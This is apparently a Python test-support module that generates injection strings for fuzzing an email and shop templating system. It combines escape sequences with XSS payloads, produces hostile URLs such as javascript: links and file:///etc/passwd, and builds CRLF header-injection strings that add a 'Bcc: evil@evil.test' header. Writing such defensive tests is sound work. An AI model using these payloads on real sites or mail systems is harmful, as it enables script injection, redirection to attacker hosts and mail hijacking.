"""What attackers write into names, products and files: made from the ways out and what would follow them.

`markup_vectors` gives 500 and more texts that would become active content wherever one escape is missing; `hostile_texts`
gives any number of texts that would become headers. Both are the same in each run: a seed stands for chance.
"""

from __future__ import annotations

import os
import random
from collections.abc import Iterator

# How many generated headers a run tries; `make test-attacks` tries 200,000.
HEADERS = int(os.environ.get("HOMING_ATTACKS", "5000"))

_WAYS_OUT = (
    "", '"', "'", '">', "'>", "-->", "</title>", "</style>", "</mj-text>", "</mj-raw></mj-text>", "</td></tr></table>",
    "]]>", "<![endif]-->", '" style="', "`", "\\\"", "\x00", "</a>", "&quot;>", "\u2028",
)  # fmt: skip
_PAYLOADS = (
    "<script>window.attacked=1</script>", "<img src=x onerror=window.attacked=1>", "<svg/onload=window.attacked=1>",
    "<svg><script href=data:,window.attacked=1 /></svg>", "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "<body onload=window.attacked=1>", "<details open ontoggle=window.attacked=1>", "<video><source onerror=window.attacked=1>",
    " onmouseover=window.attacked=1 x=", "<a href=javascript:window.attacked=1>x</a>", "<form action=https://evil.test><input>",
    "<base href=https://evil.test/>", "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>", "<style>@import 'https://evil.test/x.css'</style>",
    "<object data=https://evil.test></object>", "<embed src=https://evil.test>", "<mj-raw><script>window.attacked=1</script></mj-raw>",
    "<mj-include path='/etc/passwd' />", "<mj-section><mj-column><mj-text>x</mj-text></mj-column></mj-section>",
    "{{ 7 * 191 }}{% for i in range(9) %}x{% endfor %}", "<!--[if mso]><v:rect onclick=window.attacked=1><![endif]-->",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;", "\uff1cscript\uff1ewindow.attacked=1\uff1c/script\uff1e",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.attacked=1>", "<noscript><p title='</noscript><img src=x onerror=window.attacked=1>'>",
)  # fmt: skip
ADDRESSES = (
    "javascript:window.attacked=1", "JaVaScRiPt:window.attacked=1", " javascript:window.attacked=1", "java\tscript:window.attacked=1",
    "javascript&colon;window.attacked=1", "data:text/html,<script>window.attacked=1</script>", "vbscript:window.attacked=1",
    "file:///etc/passwd", "//evil.test/x", "https://shop.test/\" onmouseover=\"window.attacked=1", "https://shop.test/'><script>window.attacked=1</script>",
    "https://shop.test/)}</style><script>window.attacked=1</script>", "https://shop.test/\r\nSet-Cookie: a=b", "blob:https://shop.test/x",
    "https:javascript:window.attacked=1", "\x01javascript:window.attacked=1", "https://shop.test@evil.test\\@x", "view-source:https://shop.test",
)  # fmt: skip
"""Addresses of pages and pictures that lead where no page of a shop is, or out of their attribute."""

_BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\r\n\r\n",
    "\n\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "\0",
    "\r\n ",
    "\n\t",
)
_HEADERS = (
    "Bcc: evil@evil.test",
    "X-Evil: 1",
    "Content-Type: text/html",
    "Subject: other",
    "To: evil@evil.test",
    "\r\n<script>",
)
_WRAPPED = (
    "{}", "=?utf-8?q?{}?=", "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC50ZXN0?=", "=?utf-8?Q?=0D=0A{}?=", '"{}" <evil@evil.test>,',
    "<evil@evil.test>{}", "({})", "{}=?", "?={}", "=?{}", "\ud800{}", "{}\udfff", "茶{}🍵", "é" * 40 + "{}", "a" * 990 + "{}",
    "{}" + " b" * 600, "--=_{}", ".\r\n{}", "=\r\n{}", "%0D%0A{}", "\\r\\n{}", "&#13;&#10;{}",
)  # fmt: skip


def markup_vectors() -> list[str]:
    """Return every way out followed by every payload."""
    return [way + payload for way in _WAYS_OUT for payload in _PAYLOADS]


def hostile_texts(count: int, seed: int = 7) -> Iterator[str]:
    """Yield `count` texts that try to end their header: breaks, headers and wrappings by chance, and noise of all scripts."""
    chance = random.Random(seed)
    for _ in range(count):
        pieces = [
            chance.choice(_BREAKS) + chance.choice(_HEADERS) if chance.random() < 0.7 else _noise(chance)
            for _ in range(chance.randint(1, 3))
        ]
        text = "".join(pieces)
        for _ in range(chance.randint(0, 2)):
            text = chance.choice(_WRAPPED).replace("{}", text)
        yield text


def _noise(chance: random.Random) -> str:
    highest = chance.choice((0x7F, 0xFF, 0x2FFF, 0x10FFFF))
    return "".join(chr(chance.randint(0, highest)) for _ in range(chance.randint(1, 30)))
